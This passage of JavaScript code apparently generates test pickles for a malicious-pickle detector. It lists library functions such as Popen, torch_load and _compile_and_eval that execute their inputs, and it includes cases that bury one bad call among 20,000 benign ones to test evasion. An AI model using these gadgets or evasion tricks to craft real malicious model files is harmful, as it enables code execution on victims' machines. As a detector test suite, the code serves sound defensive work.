  ["torch_geometric.io.fs", "torch_load"],
  ["mmengine.utils.misc", "get_object_from_string"],
  ["attr._make", "_compile_and_eval"],
  ["torch._C", "PyTorchFileReader"],
  ["sympy", "S"],
  ["sympy.simplify.simplify", "nsimplify"],
  ["sympy.functions.elementary.trigonometric", "sin"],
  ["pathlib", "attrgetter"],
  ["statistics", "reduce"],
  ["contextlib", "MethodType"],
  ["acme.utils", "recursive_getattr"],
  ["acme.utils", "Popen"],
  ["sentence_transformers.SentenceTransformer", "SentenceTransformer"],
  ["flair.datasets.sequence_labeling", "ColumnDataset"],
];
for (const [module, name] of acting)
  add(
    "functions that act on what they are given",
    `${module}.${name}`,
    p.file(p.call(g(module, name), command)),
  );
add(
  "functions that act on what they are given",
  "a class that unpickles its state",
  p.file(
    p.build(
      p.newobj(g("stable_baselines3.common.vec_env.base_vec_env", "CloudpickleWrapper")),
      p.bytes(payload),
    ),
  ),
);

const index = g("pandas.core.indexes.base", "_new_Index");
const honest = p.join(p.call(index, g("pandas.core.indexes.base", "Index"), p.emptyDict), p.pop);
add(
  "one bad call among many",
  "a caller of its argument, behind 20,000 honest calls",
  p.file(
    ...Array.from({ length: 20_000 }, () => honest),
    p.call(index, g("acme.anything", "Thing"), p.emptyDict),
  ),
);
add(
  "one bad call among many",
  "a text among 20,000 numbers",
  p.file(
    ...Array.from({ length: 20_000 }, () => p.join(p.call(g("acme.io", "read_any"), p.int(1)), p.pop)),
    p.call(g("acme.io", "read_any"), command),
  ),
);
